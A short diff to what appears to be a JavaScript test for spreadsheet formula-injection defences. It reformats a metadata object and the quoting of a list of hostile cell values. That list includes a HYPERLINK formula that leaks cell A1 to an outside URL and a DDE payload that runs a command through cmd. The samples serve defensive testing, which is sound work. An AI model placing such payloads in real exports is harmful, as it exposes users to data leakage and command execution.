@@ -21,7 +21,7 @@ const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
 
 const HOSTILE = [
 	'=HYPERLINK("https://example.com/?q="&A1,"点击")',
-	'@SUM(1+1)*cmd|\' /C calc\'!A0',
+	"@SUM(1+1)*cmd|' /C calc'!A0",
 	'+1+1',
 	'-2+3',
 	'\t=1+1',
@@ -64,7 +64,12 @@ function formulaArchive() {
 		paragraphLines: new Map(HOSTILE.map((_, i) => [i + 1, [i + 1]])),
 	});
 	const meta = {
-		source: { file: '2031.txt', originalName: 'x.txt', sha256: 'b'.repeat(64), received: '2031-01-01' },
+		source: {
+			file: '2031.txt',
+			originalName: 'x.txt',
+			sha256: 'b'.repeat(64),
+			received: '2031-01-01',
+		},
 		decisions: [],
 		figures: [],
 	};
